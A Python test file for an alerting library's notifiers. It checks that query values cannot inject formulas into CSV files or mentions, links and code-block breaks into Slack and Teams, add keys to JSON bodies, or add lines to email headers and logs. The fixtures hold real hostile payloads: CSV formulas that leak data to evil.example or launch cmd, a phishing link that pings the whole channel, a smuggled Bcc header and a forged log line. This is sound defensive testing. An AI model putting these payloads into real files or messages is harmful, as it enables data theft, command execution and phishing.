"""Values from queries are data in every channel: CSV cells cannot be formulas, Slack text cannot mention, link
or close a code block, Teams text cannot link, a JSON body template cannot gain keys, a subject or a log record
cannot gain lines. One real batched run against loopback servers, then each channel on its own."""

from __future__ import annotations

import csv
import io
import json
import logging
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import dagster as dg
import pytest

from sqlsentinel_dagster import build_definitions
from sqlsentinel_dagster.definitions.resources import NotificationsResource
from sqlsentinel_dagster.notifiers import (
    EmailNotifier,
    LogNotifier,
    MSTeamsNotifier,
    PagerDutyNotifier,
    SlackNotifier,
    SmtpSettings,
    WebhookNotifier,
)
from sqlsentinel_dagster.notifiers.escaping import csv_cell, mrkdwn, teams_markdown
from sqlsentinel_dagster.notifiers.parts import Part

from .loopback import Received, Receiver, loopback_receiver, slack_limits, teams_limits
from .smtp_server import Mailbox, smtp_server

MENTION = "<!channel> <http://evil.example|Reset your password>"
BACKTICKS = "``` closed? `inline` ```"
MD_LINK = "[Reset your password](http://evil.example) ![x](http://evil.example/p.png)"
QUOTE = '", "admin": true, "x": "'
OWASP = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
NUMBERS_AS_TEXT = ["-5", "+3.2", "1e-3"]
WORDS = ["hello", "a = b"]
GRAVE = "\N{MODIFIER LETTER GRAVE ACCENT}"


pytestmark = pytest.mark.xdist_group("injection")  # one xdist worker: the module-scoped fixture below is made once


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Receiver, Mailbox]]:
    """One checks-mode run of two alerts whose results hold hostile values: one with a context, notifying
    Slack, Teams, a JSON webhook template and PagerDuty; one rows alert mailing a CSV and posting a Slack table."""
    tmp = tmp_path_factory.mktemp("hostile")
    warehouse = tmp / "w.db"
    with sqlite3.connect(warehouse) as db:
        db.execute("CREATE TABLE hostile (note TEXT, link TEXT, quote TEXT)")
        db.execute("INSERT INTO hostile VALUES (?, ?, ?)", (f"{MENTION} {BACKTICKS}", MD_LINK, QUOTE))
        db.execute("CREATE TABLE cells (id INTEGER, payload TEXT, amount REAL)")
        cells = [*OWASP, *NUMBERS_AS_TEXT, *WORDS, BACKTICKS]
        db.executemany("INSERT INTO cells VALUES (?, ?, ?)", [(i, c, -1.5 * (i + 1)) for i, c in enumerate(cells)])
    with loopback_receiver() as receiver, smtp_server(tmp) as box:
        receiver.limits = lambda raw, body: slack_limits(raw, body) or teams_limits(raw, body)
        path = tmp / "alerts.yaml"
        path.write_text(
            f"""
databases: {{w: {{url: "sqlite:///{warehouse}"}}}}
alerts:
  - name: hostile_values
    query: "SELECT 'ALERT' AS status, 7 AS actual_value, 5 AS threshold, note, link, quote FROM hostile"
    schedule: "@hourly"
    notify:
      - {{channel: slack, webhook_url: "{receiver.url}/slack"}}
      - {{channel: msteams, webhook_url: "{receiver.url}/teams"}}
      - channel: webhook
        url: "{receiver.url}/hook"
        body: '{{"note": "{{{{ context.note }}}}", "quote": "{{{{ context.quote }}}}"}}'
      - {{channel: pagerduty, routing_key: R0UTING}}
  - name: hostile_rows
    query: 'SELECT id, payload AS "=cmd", amount FROM cells ORDER BY id'
    schedule: "@hourly"
    rows: {{sample: 20, attach: csv}}
    notify:
      - {{channel: email, recipients: [data@example.com]}}
      - {{channel: slack, webhook_url: "{receiver.url}/slack-rows"}}
"""
        )
        resources = NotificationsResource(
            smtp_host=box.host,
            smtp_port=box.port,
            smtp_security="none",
            pagerduty_events_url=f"{receiver.url}/pagerduty",
        )
        defs = build_definitions(path, mode="checks", notifications=resources)
        with dg.instance_for_test() as instance:
            assert defs.resolve_job_def("sqlsentinel_checks").execute_in_process(instance=instance).success
        yield receiver, box


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    with loopback_receiver() as rec:
        yield rec


def delivered(receiver: Receiver, path: str) -> Received:
    (request,) = [r for r in receiver.delivered() if r.path == path]
    return request


def texts(value: Any) -> list[str]:
    """Every string in a JSON value."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [t for v in value.values() for t in texts(v)]
    if isinstance(value, list):
        return [t for v in value for t in texts(v)]
    return []


class TestCsvAttachment:
    def test_formula_cells_are_neutralised_and_numbers_kept(self, batch: tuple[Receiver, Mailbox]) -> None:
        """Every OWASP payload (=, +, -, @, tab, CR, LF) starts with a quote in the CSV received; numbers, text that
        is exactly a number and plain words are unchanged; a column named like a formula is neutralised too."""
        _, box = batch
        (mail,) = [m for m in box.messages if "hostile_rows" in str(m["Subject"])]
        (attachment,) = list(mail.iter_attachments())
        table = list(csv.reader(io.StringIO(attachment.get_content(), newline="")))
        assert table[0] == ["id", "'=cmd", "amount"]
        cells = [row[1] for row in table[1:]]
        assert cells[: len(OWASP)] == ["'" + payload for payload in OWASP]
        assert cells[len(OWASP) : len(OWASP) + 5] == [*NUMBERS_AS_TEXT, *WORDS]
        assert [row[2] for row in table[1:4]] == ["-1.5", "-3.0", "-4.5"]  # real numbers: as they are

    def test_the_csv_rule_in_isolation(self) -> None:
        """Control-led and formula-led text is prefixed; numbers and numeric text are not; nor is empty text."""
        assert [csv_cell(v) for v in ["=1", "\x1b=1", "\x7f", "-", "+", "@"]] == [
            "'=1",
            "'\x1b=1",
            "'\x7f",
            "'-",
            "'+",
            "'@",
        ]
        assert [csv_cell(v) for v in [-5, 2.5, None, "", "-5", "+.5", "-1E+3", " =1"]] == [
            -5,
            2.5,
            None,
            "",
            "-5",
            "+.5",
            "-1E+3",
            " =1",
        ]


class TestSlack:
    def test_context_values_cannot_mention_link_or_break_code(self, batch: tuple[Receiver, Mailbox]) -> None:
        """The Slack message of a context holding <!channel>, a disguised link and backticks carries them as
        escaped text: no `<!`, no `<http`, no backtick anywhere, the entities and U+02CB in their place."""
        receiver, _ = batch
        body = delivered(receiver, "/slack").body
        shown = "\n".join(texts(body))
        assert "<!channel>" not in shown and "<http://evil" not in shown and "`" not in shown
        assert "&lt;!channel&gt; &lt;http://evil.example|Reset your password&gt;" in shown
        assert GRAVE * 3 + " closed?" in shown

    def test_a_rows_table_code_block_cannot_be_closed_by_a_cell(self, batch: tuple[Receiver, Mailbox]) -> None:
        """The failed-rows table is one code block: its only ``` are the ones opening and closing it, and the
        formula cells are shown as text."""
        receiver, _ = batch
        blocks = delivered(receiver, "/slack-rows").body["attachments"][0]["blocks"]
        (table,) = [b["text"]["text"] for b in blocks if b.get("text", {}).get("text", "").startswith("```")]
        assert table.count("```") == 2 and table.endswith("```") and "`" not in table[3:-3]

    def test_a_text_template_keeps_its_own_markup_and_escapes_the_data(self, receiver: Receiver) -> None:
        """`text:` is the team's: its <!here> and a ${VAR} mention stay live; the values it shows are escaped."""
        slack = SlackNotifier(
            webhook_url=receiver.url,
            text_template="<!here> ${ONCALL} {{ context.note }} {{ error }}",
            variables={"ONCALL": "<@U0ONCALL>"},
        )
        slack.send({"alert_name": "a", "event": "error", "context": {"note": MENTION}, "error": "`drop` <x>"})
        text = receiver.requests[0].body["text"]
        assert text.startswith("<!here> <@U0ONCALL> &lt;!channel&gt;") and text.endswith(
            f"{GRAVE}drop{GRAVE} &lt;x&gt;"
        )

    def test_a_grouped_message_escapes_every_alerts_values(self, receiver: Receiver) -> None:
        """A grouped Slack message shows errors and values from the database escaped; its own bold stays."""
        receiver.limits = slack_limits
        messages = [
            {"alert_name": "a", "event": "error", "severity": "critical", "error": MENTION},
            {"alert_name": "b", "event": "firing", "severity": "critical", "actual_value": "<!here>", "threshold": 1},
        ]
        SlackNotifier(webhook_url=receiver.url).send_group(Part(tuple(messages), (0, 1)), "k")
        shown = "\n".join(texts(receiver.requests[0].body))
        assert receiver.requests[0].answered == 200 and "*[ERROR]* a" in shown
        assert "<!" not in shown and "&lt;!here&gt;" in shown and "&lt;!channel&gt;" in shown

    def test_mrkdwn_escapes_the_three_control_characters_and_backticks(self) -> None:
        """&, < and > become entities (& first, so nothing is escaped twice); ` becomes U+02CB."""
        assert mrkdwn("a & <b> `c`") == f"a &amp; &lt;b&gt; {GRAVE}c{GRAVE}" and mrkdwn("&lt;") == "&amp;lt;"


class TestTeams:
    def test_context_values_cannot_make_links(self, batch: tuple[Receiver, Mailbox]) -> None:
        """The Teams card of a context holding markdown links and images carries them with `]` and `(` kept
        apart, so no link can form; the values are otherwise shown as they are."""
        receiver, _ = batch
        card = delivered(receiver, "/teams").body["attachments"][0]["content"]
        facts = {f["title"]: f["value"] for f in card["body"][2]["facts"]}
        assert "](" not in json.dumps(card, ensure_ascii=False)
        assert facts["link"].replace("\N{WORD JOINER}", "") == MD_LINK

    def test_a_grouped_card_cannot_link_either(self, receiver: Receiver) -> None:
        """A grouped card's alert lines keep `]` and `(` apart too, even in an alert's error."""
        receiver.limits = teams_limits
        messages = [{"alert_name": "a", "event": "error", "severity": "critical", "error": MD_LINK}]
        MSTeamsNotifier(receiver.url).send_group(Part(tuple(messages), (0,)), "k")
        assert "](" not in json.dumps(receiver.requests[0].body, ensure_ascii=False)

    def test_a_definition_line_cannot_form(self) -> None:
        """`[x]: url` on a line of its own would define a link: the joiner after `]` stops it."""
        assert teams_markdown("[x]: http://evil") == "[x]\N{WORD JOINER}: http://evil"


class TestJsonAndPlainChannels:
    def test_a_json_body_template_cannot_gain_keys(self, batch: tuple[Receiver, Mailbox]) -> None:
        """A webhook `body:` that is JSON gets a value holding `", "admin": true` as text inside its string."""
        receiver, _ = batch
        request = delivered(receiver, "/hook")
        assert request.headers["Content-Type"] == "application/json"
        assert request.body == {"note": f"{MENTION} {BACKTICKS}", "quote": QUOTE}

    def test_a_text_body_template_is_sent_as_it_renders(self, receiver: Receiver) -> None:
        """A `body:` that is not JSON is plain text: values are not escaped, and it is sent as text."""
        WebhookNotifier(receiver.url, body_template="alert {{ alert_name }}: {{ context.quote }}").send(
            {"alert_name": "a", "context": {"quote": QUOTE}}
        )
        request = receiver.requests[0]
        assert request.body == f"alert a: {QUOTE}" and request.headers["Content-Type"].startswith("text/plain")

    def test_pagerduty_carries_the_values_as_json_data(self, batch: tuple[Receiver, Mailbox]) -> None:
        """PagerDuty's event is valid JSON whose custom details hold the hostile values exactly, as strings."""
        receiver, _ = batch
        event = delivered(receiver, "/pagerduty").body
        context = event["payload"]["custom_details"]["context"]
        assert context == {"note": f"{MENTION} {BACKTICKS}", "link": MD_LINK, "quote": QUOTE}
        assert event["routing_key"] == "R0UTING" and event["event_action"] == "trigger"

    def test_a_subject_cannot_gain_a_header(self, tmp_path: Path) -> None:
        """A subject template showing a value with CR LF and a Bcc line sends one mail, subject on one line, to
        the recipients only."""
        with smtp_server(tmp_path) as box:
            settings = SmtpSettings(host=box.host, port=box.port, security="none")
            EmailNotifier(settings, ["oncall@example.com"], subject_template="{{ context.note }}").send(
                {"alert_name": "a", "event": "firing", "context": {"note": "x\r\nBcc: victim@example.com"}}
            )
        (mail,) = box.messages
        assert mail["Bcc"] is None and box.envelopes[0][1] == ["oncall@example.com"]
        assert str(mail["Subject"]) == "x Bcc: victim@example.com"

    def test_a_log_record_cannot_gain_lines(self, caplog: pytest.LogCaptureFixture) -> None:
        """A value holding a line break and a fake line is logged on the alert's own line, the break shown as \\n."""
        logger = logging.getLogger("sqlsentinel.test.injection")
        with caplog.at_level(logging.INFO, logger=logger.name):
            LogNotifier(logger).send({"alert_name": "a", "event": "firing", "reason": "x\n[RESOLVED] all fine"})
        (record,) = [r.getMessage() for r in caplog.records if r.name == logger.name]
        assert "\n" not in record and record.endswith("x\\n[RESOLVED] all fine")

    def test_pagerduty_summary_stays_one_bounded_string(self, receiver: Receiver) -> None:
        """A 5,000-character description with quotes and line breaks is a summary of at most 1,024 characters."""
        PagerDutyNotifier("R", events_url=receiver.url).send(
            {"alert_name": "a", "event": "firing", "description": '"\n' * 2500}
        )
        assert len(receiver.requests[0].body["payload"]["summary"]) <= 1024
